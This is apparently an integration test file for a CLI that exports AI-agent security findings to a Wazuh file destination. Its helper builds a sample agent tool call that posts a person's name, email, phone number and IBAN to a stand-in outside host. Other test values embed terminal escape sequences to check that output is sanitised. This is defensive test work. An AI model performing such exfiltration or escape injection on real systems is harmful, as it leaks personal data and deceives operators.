import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { otlpJson } from '../collector/src/testing/otlp.ts';
import { cliOf } from './support/cli.ts';
import { eventually } from './support/collector-process.ts';
import { testCollector } from './support/test-collector.ts';

/** `spanwarden export …` over what a running collector has stored. */
const collector = testCollector();
const { home } = collector;
const run = cliOf(home, 'export');
const file = join(dirname(home.configFile), 'export.ndjson');
const directory = join(home.dataDir, 'export', 'wazuh');

function configure(settings: string): void {
  const before = readFileSync(home.configFile, 'utf8').split('export:')[0]!;
  writeFileSync(
    home.configFile,
    `${before}export:\n  destinations:\n    wazuh: { type: file, path: ${file}${settings} }\n`,
  );
}

interface Line {
  readonly event_id: string;
  readonly kind: string;
  readonly is_sample: boolean;
  readonly case_id?: string;
  readonly finding?: { readonly id: string; readonly agent_name: string };
  readonly case?: { readonly id: string; readonly alert_seq: number };
  readonly fields?: Readonly<Record<string, string>>;
}

function lines(): Line[] {
  const text = existsSync(file) ? readFileSync(file, 'utf8') : '';
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Line);
}

async function sendAttack(traceId: string): Promise<void> {
  const span = {
    traceId,
    name: 'execute_tool http.post',
    kind: 3,
    attributes: {
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': 'http.post',
      'gen_ai.agent.name': 'evil\u001b[2Jagent',
      'gen_ai.tool.call.arguments': JSON.stringify({
        url: 'https://collect.stranger.example/v1',
        body: 'Jane Doe, jane.doe@example.org, +49 170 1234567, IBAN DE89 3704 0044 0532 0130 00',
      }),
    },
  };
  const response = await fetch(`${collector.url}/v1/traces`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(otlpJson([span])),
  });
  assert.equal(response.status, 200);
}

function letter(id: string, kind: 'finding' | 'case', of: string): string {
  return `${JSON.stringify({ id, kind, of, position: 7, reason: 'no such index\u001b[2J', time: '2026-11-22T10:00:00.000Z' })}\n`;
}

test('without destinations, and with a name that is none, it says so', () => {
  assert.deepEqual(
    [run('status').code, run('status').stdout],
    [0, 'No destinations: export.destinations in the config names them.\n'],
  );
  const unknown = run('test', 'nobody');
  assert.deepEqual([unknown.code, /SW_EXPORT_NAME/.test(unknown.stderr)], [2, true]);
});

test('an example arrives, and says of itself that it is one', () => {
  configure(", fields: { team: 'soc of {agent}' }, filter: { level: critical }");
  const { code, stdout } = run('test', 'wazuh');
  assert.equal(code, 0);
  assert.match(
    stdout,
    /^delivered {2}wazuh {2}\d+ ms {2}\d+ bytes\n {2}event {3}[0-9a-f]{32}-\d+\n {2}answer {2}\d+ bytes are on disk\n$/,
  );
  const [line] = lines();
  assert.deepEqual([line?.is_sample, line?.fields], [true, { team: 'soc of spanwarden-test' }]);
  assert.equal(statSync(file).mode & 0o777, 0o600);
  const { delivered, answer } = JSON.parse(run('test', 'wazuh', '--json').stdout) as {
    delivered: boolean;
    answer: string;
  };
  assert.deepEqual([delivered, /on disk/.test(answer)], [true, true]);
});

test('what is stored can be explained and sent once more, under the ids of the stream', async () => {
  configure(", fields: { team: 'soc' }");
  await sendAttack('ab'.repeat(16));
  const count = await eventually('a case in ClickHouse', async () => {
    const dry = run('replay', 'wazuh', '--since', '1h', '--dry-run', '--json');
    if (dry.code !== 0) return undefined;
    const found = JSON.parse(dry.stdout) as { findings: number; cases: number };
    return found.cases > 0 ? found : undefined;
  });
  const before = lines().length;
  const { code, stdout, stderr } = run('replay', 'wazuh', '--since', '1h', '--json');
  assert.equal(code, 0, stderr);
  const total = count.findings + count.cases;
  assert.deepEqual(JSON.parse(stdout), {
    destination: 'wazuh',
    delivered: total,
    refused: 0,
    filtered: 0,
    isWhole: true,
  });
  const sent = lines().slice(before);
  assert.equal(sent.length, total);
  const versions = await collector.clickhouse.rows<{ id: string; version: string }>(
    'SELECT FindingId AS id, toString(Version) AS version FROM findings FINAL',
  );
  const idOf = (id: string): string => `${id}-${versions.find((each) => each.id === id)!.version}`;
  for (const { event_id, finding, case: row } of sent) {
    assert.equal(event_id, finding === undefined ? `${row!.id}-${row!.alert_seq}` : idOf(finding.id));
  }
  const found = sent.find(({ kind }) => kind === 'finding')!;
  assert.equal(found.case_id, sent.find(({ kind }) => kind === 'case')!.case!.id);
  assert.equal(found.finding!.agent_name, 'evil\u001b[2Jagent');

  const explained = run('explain', found.finding!.id.slice(0, 12), '--destination', 'wazuh');
  assert.deepEqual(JSON.parse(explained.stdout), found);
  const filtered = run('explain', found.finding!.id, '--destination', 'wazuh', '--json');
  assert.equal((JSON.parse(filtered.stdout) as { sent: boolean }).sent, true);
  configure(', filter: { agents: [somebody-else] }');
  assert.match(run('explain', found.finding!.id, '--destination', 'wazuh').stdout, /does not get it/);
  assert.match(run('replay', 'wazuh', '--since', '1h', '--dry-run').stdout, /^0 findings and 0 cases would be sent/);
});

test('what was refused is listed, sent as it stands now, and goes', () => {
  configure('');
  const [found, row] = (['finding', 'case'] as const).map(
    (kind) => lines().find((line) => line.kind === kind && !line.is_sample)!,
  );
  const ids = [found!.finding!.id, row!.case!.id] as const;
  mkdirSync(directory, { recursive: true });
  const letters = [
    letter(`${ids[0]}-1`, 'finding', ids[0]),
    letter(row!.event_id, 'case', ids[1]),
    letter('dead-1', 'finding', 'dead'.repeat(8)),
  ];
  writeFileSync(join(directory, 'dead-letter.ndjson'), `${letters.join('')}{"id":"torn`);
  const listed = run('dead-letter', 'list', 'wazuh');
  assert.match(listed.stdout, /no such index\\u\{1b\}\[2J/);
  assert.match(listed.stderr, /1 line of the file cannot be read/);
  assert.match(run('dead-letter', 'show', 'wazuh', ids[1].slice(0, 8)).stdout, /position +7/);
  assert.equal(run('dead-letter', 'show', 'wazuh', 'ffff').code, 1);

  const before = lines().length;
  const one = run('dead-letter', 'retry', 'wazuh', ids[0]);
  assert.deepEqual([one.code, one.stdout], [0, '1 event delivered to wazuh, 0 refused again.\n']);
  assert.equal(lines().at(-1)?.finding?.id, ids[0]);
  const rest = run('dead-letter', 'retry', 'wazuh', '--json');
  assert.deepEqual(JSON.parse(rest.stdout), { destination: 'wazuh', delivered: 1, refused: 0, filtered: 0, gone: 1 });
  assert.equal(lines().length, before + 2);
  assert.match(run('dead-letter', 'list', 'wazuh').stdout, /No dead letters/);
});

test('status tells how it stands, and when nobody knows', () => {
  const status = {
    name: 'wazuh',
    type: 'file',
    state: 'retrying',
    since: '2026-11-22T10:00:00.000Z',
    started: '2026-11-22T10:00:00.000Z',
  };
  const counts = { delivered: 3, refused: 0, retried: 9, lost: 0, filtered: 0 };
  const rest = {
    lag: { events: 2, more: true, ms: 7_200_000 },
    position: 8,
    deadLetters: { count: 0, overflowed: 0 },
    counts,
  };
  const lastError = { time: '2026-11-22T10:00:00.000Z', reason: 'connection refused\u001b[2J' };
  const write = (updated: Date) =>
    writeFileSync(
      join(directory, 'status.json'),
      JSON.stringify({ ...status, ...rest, updated: updated.toISOString(), lastError }),
    );
  write(new Date());
  const shown = run('status');
  assert.equal(shown.code, 1);
  assert.match(shown.stdout, /wazuh +file +retrying +3 +0 +2\+ +2 h/);
  assert.match(shown.stdout, /connection refused\\u\{1b\}/);
  write(new Date(Date.now() - 60_000));
  assert.match(run('status', 'wazuh').stdout, /unknown[\s\S]*does it run\?/);
  writeFileSync(join(directory, 'status.json'), '{');
  assert.match(run('status').stdout, /cannot be read/);
});
